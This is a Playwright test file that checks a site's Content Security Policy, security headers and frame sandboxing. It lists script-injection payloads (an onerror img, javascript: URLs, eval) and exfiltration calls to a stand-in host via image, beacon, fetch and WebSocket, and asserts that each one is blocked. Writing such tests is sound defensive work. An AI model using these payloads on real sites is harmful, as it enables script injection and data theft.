import { createServer } from 'node:http';
import type { Page } from '@playwright/test';
import { securityHeaders } from '../../pipeline/security/securityHeaders.ts';
import { listen } from '../../pipeline/server/listen.ts';
import { builtSite } from '../support/builtSite.ts';
import { demoEditor } from '../support/demoEditor.ts';
import { expect, test } from '../support/test.ts';

/*
 * A policy that forbids something says so on the console, which fails every test of the site. These tests look for
 * the events as well, so that they mean something by themselves.
 */

interface Violation {
  readonly directive: string;
  readonly blocked: string;
}

/** Collects what a policy forbids on the page, from now on and over all documents. */
async function watchViolations(page: Page): Promise<Violation[]> {
  const violations: Violation[] = [];
  await page.exposeFunction('reportViolation', (violation: Violation) => {
    violations.push(violation);
  });
  await page.addInitScript(() => {
    const { reportViolation } = window as unknown as {
      readonly reportViolation: (violation: Violation) => void;
    };
    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      reportViolation({ directive: effectiveDirective, blocked: blockedURI }),
    );
  });
  return violations;
}

/** A few pages to a test: a browser is started for each test, and pages are many. */
function inGroups<Item>(items: readonly Item[], size: number): Item[][] {
  const groups: Item[][] = [];
  for (let start = 0; start < items.length; start += size)
    groups.push(items.slice(start, start + size));
  return groups;
}

for (const [index, paths] of inGroups(
  builtSite.pages.map(({ path }) => path),
  20,
).entries())
  test(`pages work under the policy, from ${paths[0]} on (${index + 1})`, async ({
    page,
    open,
  }) => {
    test.slow();
    const violations = await watchViolations(page);
    for (const path of paths) {
      await open(path);
      const policy = page.locator('meta[http-equiv="Content-Security-Policy"]');
      await expect(policy, path).toHaveAttribute(
        'content',
        /^default-src 'none'; script-src 'self' /,
      );
      // Whatever happens after the page is ready, say when demos measure themselves.
      await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(resolve)));
      expect(violations, path).toEqual([]);
    }
    test
      .info()
      .annotations.push({ type: 'pages under the policy', description: `${paths.length}` });
  });

for (const [index, ids] of inGroups(
  builtSite.demos.map(({ id }) => id),
  20,
).entries())
  test(`demos stand alone under the policy, from ${ids[0]} on (${index + 1})`, async ({ page }) => {
    test.slow();
    const violations = await watchViolations(page);
    for (const id of ids)
      for (const suffix of ['', '-cn']) {
        await page.goto(`/~demos/${id}${suffix}`);
        await expect(page.locator('html')).toHaveAttribute('data-demo-ready', '');
        expect(violations, id).toEqual([]);
      }
  });

test('every kind of file comes with its headers', async ({ page, open, request }) => {
  await open('/demo/simple');
  await demoEditor(page, 'simple').open();
  const frame = await page
    .locator('iframe[data-state="current"]')
    .evaluate((element) => new URL((element as HTMLIFrameElement).src).pathname);
  const addresses = { frame, 'standalone-demo': '/~demos/simple', site: '/demo/simple' };
  for (const kind of ['frame', 'standalone-demo', 'site'] as const) {
    const headers = (await request.get(addresses[kind])).headers();
    for (const [name, value] of Object.entries(securityHeaders[kind]))
      expect(headers[name.toLowerCase()], `${name} of ${kind}`).toBe(value);
  }
});

/** What only a script that ran would do. */
const mark = "document.documentElement.dataset.intruder = 'ran'";

/** Ways for something that got into a page to run, or to reach another site, each with what stops it. */
const intrusions: readonly (readonly [
  what: string,
  stoppedBy: string,
  intrude: (script: string) => void,
])[] = [
  [
    'an attribute that is a script',
    'require-trusted-types-for',
    (script) => {
      const button = document.createElement('button');
      button.setAttribute('onclick', script);
      document.body.append(button);
      button.click();
    },
  ],
  [
    'a script element',
    // Tells the console and nobody else.
    'will not be executed',
    (script) => {
      const element = document.createElement('script');
      element.append(script);
      document.body.append(element);
    },
  ],
  [
    'an address that is a script',
    'script-src-elem',
    (script) => {
      const link = document.createElement('a');
      link.href = `javascript:${script}`;
      document.body.append(link);
      link.click();
    },
  ],
  [
    'a script of another site',
    'require-trusted-types-for',
    () => {
      const element = document.createElement('script');
      element.setAttribute('src', 'https://other.example/a.js');
      document.body.append(element);
    },
  ],
  [
    'a module of another site',
    'script-src-elem',
    () => void import('https://other.example/a.js' as string),
  ],
  [
    'HTML',
    'require-trusted-types-for',
    (script) => {
      const place = document.createElement('div');
      document.body.append(place);
      place.innerHTML = `<img src="x" onerror="${script}">`;
    },
  ],
  [
    'a text that is evaluated',
    'require-trusted-types-for',
    // Not at once: what a test evaluates may itself evaluate.
    (script) => void setTimeout(() => new Function(script)()),
  ],
  [
    'a worker made of a text',
    'require-trusted-types-for',
    (script) => {
      const text = new Blob([script], { type: 'text/javascript' });
      void new Worker(URL.createObjectURL(text));
    },
  ],
  [
    'a frame of another site',
    'frame-src',
    () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://other.example/';
      document.body.append(frame);
    },
  ],
  [
    'a form for another site',
    'form-action',
    () => {
      const form = document.createElement('form');
      form.action = 'https://other.example/';
      document.body.append(form);
      form.submit();
    },
  ],
  [
    'another base',
    'base-uri',
    () => {
      const base = document.createElement('base');
      base.href = 'https://other.example/';
      document.head.append(base);
    },
  ],
  [
    'a picture',
    'img-src',
    () => {
      new Image().src = 'https://other.example/?secret';
    },
  ],
  [
    'a style sheet',
    'style-src-elem',
    () => {
      const link = document.createElement('link');
      link.rel = 'stylesheet';
      link.href = 'https://other.example/a.css';
      document.head.append(link);
    },
  ],
  [
    'a style with an address',
    'img-src',
    () => {
      document.body.style.backgroundImage = 'url(https://other.example/?secret)';
    },
  ],
  ['a request', 'connect-src', () => void fetch('https://other.example/').catch(() => undefined)],
  ['a beacon', 'connect-src', () => void navigator.sendBeacon('https://other.example/', 'secret')],
  ['a socket', 'connect-src', () => void new WebSocket('wss://other.example/')],
];

test.describe('what gets into a page', () => {
  test.use({
    allowedConsole: /Content Security Policy|Trusted|dynamically imported module|EvalError/,
  });

  for (const [what, stoppedBy, intrude] of intrusions)
    test(`is stopped: ${what}`, async ({ page, context, open, printed }) => {
      const requests: string[] = [];
      await context.route('https://other.example/**', (route) => {
        requests.push(route.request().url());
        return route.abort();
      });
      const violations = await watchViolations(page);
      await open('/changelog');
      // Some ways end with an error, which is as good.
      await page.evaluate(intrude, mark).catch(() => undefined);
      await expect
        .poll(() => [...violations.map(({ directive }) => directive), ...printed].join('\n'))
        .toContain(stoppedBy);
      expect(
        await page.evaluate(() => document.documentElement.dataset['intruder']),
      ).toBeUndefined();
      expect(requests).toEqual([]);
      expect(page.url()).toContain('/changelog');
    });

  test('is stopped: scripts in the HTML that is sent', async ({ page, open }) => {
    const violations = await watchViolations(page);
    await page.route('**/changelog', async (route) => {
      const response = await route.fetch();
      const html = await response.text();
      const intruders = `<script>${mark}</script><img src="data:," onerror="${mark}" alt="">`;
      await route.fulfill({ response, body: html.replace('</body>', `${intruders}</body>`) });
    });
    await open('/changelog');
    await expect
      .poll(() => violations.map(({ directive }) => directive).sort())
      .toEqual(expect.arrayContaining(['script-src-attr', 'script-src-elem']));
    await expect(page.locator('html')).not.toHaveAttribute('data-intruder');
  });

  test('is stopped: evaluation in a demo that stands alone', async ({ page }) => {
    const violations = await watchViolations(page);
    await page.goto('/~demos/simple');
    await expect(page.locator('html')).toHaveAttribute('data-demo-ready', '');
    await page.evaluate((script) => void setTimeout(() => new Function(script)()), mark);
    await expect.poll(() => violations.length).toBeGreaterThan(0);
    await expect(page.locator('html')).not.toHaveAttribute('data-intruder');
  });
});

test('the frame of edited code is opaque even when it is opened by itself', async ({
  page,
  open,
}) => {
  await open('/demo/simple');
  await demoEditor(page, 'simple').open();
  const frame = page.locator('iframe[data-state="current"]');
  await expect(frame).toHaveAttribute('sandbox', 'allow-scripts');
  await page.goto(await frame.evaluate((element) => (element as HTMLIFrameElement).src));
  expect(await page.evaluate(() => window.origin)).toBe('null');
  expect(
    await page.evaluate(() => {
      try {
        return localStorage.length;
      } catch (error) {
        return (error as Error).name;
      }
    }),
  ).toBe('SecurityError');
});

test.describe('in another site’s frame', () => {
  test.use({ allowedConsole: /frame-ancestors/ });

  for (const [path, isShown] of [
    ['/~demos/simple', true],
    ['/demo/simple', false],
  ] as const)
    test(`${path} is ${isShown ? 'shown' : 'not shown'}`, async ({ page, printed, baseURL }) => {
      const body = `<!doctype html><link rel="icon" href="data:,"><iframe src="${baseURL}${path}"></iframe>`;
      const other = createServer((_, response) => {
        response.setHeader('Content-Type', 'text/html');
        response.end(body);
      });
      const port = await listen(other, { port: 0, host: '127.0.0.1' });
      // Another name of this machine is another site.
      await page.goto(`http://localhost:${port}/`);
      const table = page.frameLocator('iframe').getByRole('table').first();
      if (isShown) await expect(table).toBeVisible();
      else {
        await expect.poll(() => printed.join()).toContain('frame-ancestors');
        await expect(table).toHaveCount(0);
      }
      other.closeAllConnections();
      other.close();
    });
});
